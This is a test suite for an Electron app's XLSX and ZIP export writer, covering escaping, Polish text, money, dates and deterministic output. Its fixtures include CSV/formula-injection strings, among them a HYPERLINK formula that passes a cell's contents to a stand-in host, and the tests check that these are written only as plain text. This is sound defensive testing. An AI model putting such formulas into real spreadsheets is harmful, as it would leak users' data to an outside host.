import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { columnLetter } from '../../../electron/core/column-letter';
import { decimalText, excelSerial } from '../../../electron/core/export/xlsx/sheet-writer';
import { STYLE } from '../../../electron/core/export/xlsx/styles';
import { XlsxWriter } from '../../../electron/core/export/xlsx/workbook-writer';
import { cellText, xmlEscape } from '../../../electron/core/export/xlsx/xml-text';
import { ZipPart, ZipWriter } from '../../../electron/core/export/xlsx/zip-writer';

/** Names a stranger on Allegro can type: every one must come back as exactly these characters (less what XML cannot hold). */
const NAMES = [
  'Zażółć gęślą jaźń — Łódź',
  '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
  '+48 600 100 200',
  '@SUM(A1:A9)',
  '-2+3 Kowalski',
  '\tTab Nowak',
  'Spacja na końcu ',
  'Anna <b>&amp; "Jan"</b>',
  'Emoji 😀 ok',
  'Podkreślenie _x0041_ zostaje',
];
/** Few-valued texts written through the shared string table (label()), hostile ones included. */
const LABELS = ['sprzedaż', 'korekta', '=1+1', ' spacja', 'a<b>&c', 'x\u0001y'];
/** Characters XML 1.0 cannot hold at all: dropped, the rest of the name kept. */
const CONTROL = 'Jan\u0000\u0001\u0007\u000b\u001fKowal\ud800ski\uffff';

/**
 * Excel's and LibreOffice's reading of `_xHHHH_` in cell text (ECMA-376 ST_Xstring), which exceljs does
 * not apply: the writer escapes a literal `_x0041_` as `_x005F_x0041_` so those programs show it as typed.
 */
const excelDecode = (text: string) => text.replace(/_x([0-9A-Fa-f]{4})_/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16)));

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return wb;
}

function sampleBook(rows: number): XlsxWriter {
  const book = new XlsxWriter();
  const sheet = book.addSheet(
    'Rejestr',
    [
      { header: 'Lp', width: 6 },
      { header: 'Nabywca', width: 30 },
      { header: 'Kwota', width: 12 },
      { header: 'Data', width: 12 },
      { header: 'Rodzaj', width: 12 },
    ],
    { autoFilter: true },
  );
  const names = [...NAMES, CONTROL];
  for (let i = 0; i < rows; i++) {
    sheet.number(i + 1).text(names[i % names.length]).money(i % 3 === 0 ? -(i * 101 + 5) : i * 101 + 50).date(i % 4 === 3 ? null : `2026-10-${String((i % 28) + 1).padStart(2, '0')}`);
    sheet.label(LABELS[i % LABELS.length]).endRow();
  }
  const sum = book.addSheet('Podsumowanie', [
    { header: 'Waluta', width: 8 },
    { header: 'Brutto', width: 14 },
  ]);
  sum.text('PLN', STYLE.bold).money(-123456, STYLE.boldMoney).endRow();
  book.addSheet('Uwagi', [{ header: 'Uwagi', width: 100 }]).text('Zdanie, które się zawija.', STYLE.wrapTop).endRow();
  return book;
}

describe('XLSX writer', () => {
  it('writes a workbook that exceljs reads back cell for cell: text, formula-like names, control characters, negative amounts, dates', async () => {
    const bytes = await sampleBook(NAMES.length + 1).toBytes();
    const wb = await load(bytes);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Rejestr', 'Podsumowanie', 'Uwagi']);
    const sheet = wb.getWorksheet('Rejestr')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Lp', 'Nabywca', 'Kwota', 'Data', 'Rodzaj']);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:E${NAMES.length + 2}`);
    expect(sheet.getColumn(2).width).toBe(30);
    NAMES.forEach((name, i) => {
      const row = sheet.getRow(i + 2);
      const cell = row.getCell(2);
      expect(excelDecode(cell.value as string)).toBe(name);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(row.getCell(1).value).toBe(i + 1);
      const label = row.getCell(5);
      expect(label.value).toBe(LABELS[i % LABELS.length]!.replace('\u0001', ''));
      expect(label.type).toBe(ExcelJS.ValueType.String);
      expect(label.formula).toBeUndefined();
    });
    expect(sheet.getRow(NAMES.length + 2).getCell(2).value).toBe('JanKowalski');
    // Money: the exact decimal of the grosze, negative where negative, with the money format.
    const amount = sheet.getRow(2).getCell(3);
    expect(amount.value).toBe(-0.05);
    expect(amount.numFmt).toBe('#,##0.00;[Red]-#,##0.00');
    expect(sheet.getRow(3).getCell(3).value).toBe(1.51);
    expect(sheet.getRow(5).getCell(3).value).toBe(-3.08);
    // Dates: real dates (a serial with a date format), and an empty cell where there is none.
    expect(sheet.getRow(2).getCell(4).value).toEqual(new Date(Date.UTC(2026, 9, 1)));
    expect(sheet.getRow(5).getCell(4).value).toBeNull();
    const total = wb.getWorksheet('Podsumowanie')!.getRow(2);
    expect(total.getCell(2).value).toBe(-1234.56);
    expect(total.getCell(2).font?.bold).toBe(true);
    expect(wb.getWorksheet('Uwagi')!.getRow(2).getCell(1).alignment).toMatchObject({ wrapText: true, vertical: 'top' });
  });

  it('writes only well-formed XML parts, never a formula element, in a ZIP a second reader opens with CRCs checked', async () => {
    const bytes = await sampleBook(5000).toBytes(); // the big sheet spans several compressed pieces
    const zip = await JSZip.loadAsync(Buffer.from(bytes), { checkCRC32: true });
    const names = Object.keys(zip.files);
    expect(names).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/core.xml',
      'docProps/app.xml',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/sharedStrings.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
      'xl/worksheets/sheet3.xml',
    ]);
    for (const name of names) {
      const xml = await zip.file(name)!.async('string');
      const parser = new SaxesParser({ xmlns: true });
      let root = '';
      parser.on('opentag', (tag) => {
        root ||= tag.local;
      });
      parser.write(xml).close(); // throws on anything that is not well-formed XML 1.0
      expect(root).not.toBe('');
      if (name.startsWith('xl/worksheets/')) {
        expect(xml).not.toMatch(/<f[ >]/);
        // eslint-disable-next-line no-control-regex -- looking for control characters is the point
        expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
      }
    }
    const sheet1 = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet1).toContain('_x005F_x0041_'); // Excel would otherwise show "A"
    expect(sheet1).toContain('<t xml:space="preserve">\tTab Nowak</t>');
    expect(sheet1).toContain('&lt;b&gt;&amp;amp; &quot;Jan&quot;&lt;/b&gt;');
    expect(sheet1.match(/<row /g)).toHaveLength(5001);
    const sst = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(sst).toContain('uniqueCount="6"');
    expect(sst).toContain('<si><t xml:space="preserve"> spacja</t></si>');
    expect(sheet1).not.toContain('sprzedaż'); // labels are written once, in the table
    const workbook = await zip.file('xl/workbook.xml')!.async('string');
    expect(workbook).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">'Rejestr'!$A$1:$E$5001</definedName>`);
  });

  it('gives the same bytes for the same cells', async () => {
    const a = await sampleBook(3000).toBytes();
    const b = await sampleBook(3000).toBytes();
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
  });

  it.skipIf(!hasPython())('opens in Python too: zipfile tests every CRC and minidom parses every part', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'xlsx-'));
    try {
      const file = join(dir, 'book.xlsx');
      writeFileSync(file, await sampleBook(4000).toBytes());
      const script = [
        'import sys, zipfile, xml.dom.minidom',
        'z = zipfile.ZipFile(sys.argv[1])',
        'assert z.testzip() is None',
        'for n in z.namelist(): xml.dom.minidom.parseString(z.read(n))',
        'print(len(z.namelist()))',
      ].join('\n');
      expect(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' }).trim()).toBe('11');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses what Excel could not open or what would be wrong silently', () => {
    const book = new XlsxWriter();
    expect(() => book.addSheet('Zła/nazwa', [{ header: 'a', width: 1 }])).toThrow(/sheet name/);
    expect(() => book.addSheet('x'.repeat(32), [{ header: 'a', width: 1 }])).toThrow(/sheet name/);
    const sheet = book.addSheet('Dane', [{ header: 'a', width: 1 }]);
    expect(() => book.addSheet('DANE', [{ header: 'a', width: 1 }])).toThrow(/Duplicate/);
    expect(() => sheet.text('a').text('b')).toThrow(/1 columns/);
    expect(() => sheet.money(1.5)).toThrow(RangeError);
    expect(() => sheet.date('2026-13')).toThrow(RangeError);
  });
});

describe('XLSX cell values', () => {
  it.each([
    [0, '0'],
    [5, '0.05'],
    [50, '0.5'],
    [-5, '-0.05'],
    [199900, '1999'],
    [123456, '1234.56'],
    [-123450, '-1234.5'],
    [Number.MAX_SAFE_INTEGER, '90071992547409.91'],
  ])('writes %i grosze as %s', (minor, text) => {
    expect(decimalText(minor)).toBe(text);
    expect(Number(text)).toBe(Number((minor / 100).toFixed(2)));
  });
  it('dates as Excel serials, columns as letters', () => {
    expect(excelSerial('1900-03-01')).toBe(61);
    expect(excelSerial('2026-10-01')).toBe(46296);
    expect(excelSerial('2024-02-29')).toBe(45351);
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
  it('escapes markup, drops characters XML cannot hold, keeps pairs of surrogates, cuts at Excel’s cell limit', () => {
    expect(xmlEscape('a<b>&"c"')).toBe('a&lt;b&gt;&amp;&quot;c&quot;');
    expect(cellText('a\u0000b\u0008c\td\ne\rf')).toBe('abc\td\ne\rf');
    expect(cellText('😀\ud800x\udc00y')).toBe('😀xy');
    expect(cellText('x'.repeat(40_000))).toHaveLength(32_767);
    expect(cellText(`${'x'.repeat(32_766)}😀`)).toHaveLength(32_766);
  });
});

describe('ZIP writer', () => {
  const pieces = Array.from({ length: 7 }, (_v, i) => Buffer.from(`kawałek ${i} `.repeat(20_000 + i * 999)));

  it('joins separately compressed pieces into one deflate stream', async () => {
    const part = new ZipPart();
    for (const p of pieces) part.push(p);
    const { data, size } = await part.finish();
    expect(inflateRawSync(Buffer.concat(data)).equals(Buffer.concat(pieces))).toBe(true);
    expect(size).toBe(Buffer.concat(pieces).length);
    expect(() => part.push(Buffer.from('x'))).toThrow(/closed/);
  });

  it('writes a ZIP another reader opens with CRCs checked, empty entries included', async () => {
    const zip = new ZipWriter();
    const part = new ZipPart();
    for (const p of pieces) part.push(p);
    zip.add('a.txt', part);
    zip.addFile('pusty.txt', '');
    expect(() => zip.addFile('a.txt', 'x')).toThrow(/Duplicate/);
    const read = await JSZip.loadAsync(await zip.toBuffer(), { checkCRC32: true });
    expect(Object.keys(read.files)).toEqual(['a.txt', 'pusty.txt']);
    expect((await read.file('a.txt')!.async('nodebuffer')).equals(Buffer.concat(pieces))).toBe(true);
    expect(await read.file('pusty.txt')!.async('string')).toBe('');
    expect(read.file('a.txt')!.date.getFullYear()).toBe(1980);
  });
});

function hasPython(): boolean {
  try {
    execFileSync('python3', ['-c', 'import zipfile, xml.dom.minidom'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
